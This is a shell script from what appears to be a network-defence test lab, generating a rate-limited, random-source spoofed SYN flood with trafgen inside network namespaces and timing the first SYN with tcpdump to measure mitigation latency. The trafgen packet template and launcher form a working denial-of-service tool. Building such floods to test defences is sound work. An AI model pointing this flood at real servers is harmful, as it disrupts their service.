# attack.sh: the random-source SYN flood (trafgen, netsniff-ng) from the attacker namespace, at a bounded rate
# so the rest of the lab keeps CPU on two cores. Sources: random addresses in 11.0.0.0-126.255.255.255 (never
# the lab's own 10.99/16), random ports and sequence numbers; destination the protected server's service port.
# trafgen in a netns cannot raise its own socket buffer, so net.core.wmem_default (machine-wide) is raised for
# the run and put back by the cleanup stack.

attack_config() { # > trafgen config
	local m=$ROUTER_MAC_ATT src
	src=$(mac_of "$NS_ATTACKER" a0)
	cat <<-EOF
		/* lab SYN flood: $src -> router $m, random source -> $VM_IP4:$SERVICE_PORT */
		{
		  0x${m//:/, 0x},
		  0x${src//:/, 0x},
		  c16(0x0800),
		  0x45, 0x00, c16(40), drnd(2), c16(0x4000), 64, 6, csumip(14, 33),
		  dinc(11, 126), drnd(3),
		  ${VM_IP4//./, },
		  drnd(2), c16($SERVICE_PORT), drnd(4), c32(0),
		  c16(0x5002), c16(64240), csumtcp(14, 34), c16(0)
		}
	EOF
}

attack_prepare() {
	attack_config >"$WORK/flood.trafgen"
	WMEM_SAVED=$(sysctl -n net.core.wmem_default)
	on_exit "sysctl -qw net.core.wmem_default=$WMEM_SAVED"
	sysctl -qw net.core.wmem_default=4194304
}

# attack_start PPS: FLOOD_FIRST_MS is the kernel's receive timestamp of the flood's first SYN at the router (r-att:
# only the attacker is behind it), captured by tcpdump armed before trafgen starts; every latency in the RESULT line
# counts from it
attack_start() {
	local i
	: >"$WORK/flood-first.txt"
	nsx_bg "$NS_ROUTER" tcpdump -i r-att -Q in -c 1 -n -tt --time-stamp-precision=micro \
		"tcp[tcpflags] & (tcp-syn|tcp-ack) == tcp-syn" >"$WORK/flood-first.txt" 2>"$WORK/flood-first.log"
	FIRST_PID=$BG_PID
	for ((i = 0; i < 100; i++)); do
		grep -q 'listening on' "$WORK/flood-first.log" && break
		sleep 0.05
	done
	nsx_bg "$NS_ATTACKER" trafgen --dev a0 --conf "$WORK/flood.trafgen" --rate "${1}pps" --cpus 1 -q \
		>"$WORK/trafgen.log" 2>&1
	ATTACK_PID=$BG_PID
}

# flood_first_ms: the first SYN's timestamp in ms (empty if tcpdump saw none), once the capture is stopped
flood_first_ms() {
	awk 'NR == 1 && $1 ~ /^[0-9]+\.[0-9]+$/ { split($1, t, "."); printf "%d%03d\n", t[1], substr(t[2], 1, 3) }' \
		"$WORK/flood-first.txt"
}

# trafgen stops cleanly (and reaps its sender) on SIGINT, like ^C
attack_stop() {
	local kids pid
	kill_wait "${FIRST_PID:-}" 2 # the first-SYN capture, if no SYN ever came
	FIRST_PID=
	[ -n "${ATTACK_PID:-}" ] || return 0
	# trafgen forks one sender per CPU: a terminal ^C reaches all of them, so signal each one
	kids=$(ps -o pid= --ppid "$ATTACK_PID" 2>/dev/null)
	kill -INT "$ATTACK_PID" $kids 2>/dev/null
	for pid in $kids "$ATTACK_PID"; do
		kill_wait "$pid" 3
	done
	ATTACK_PID=
}
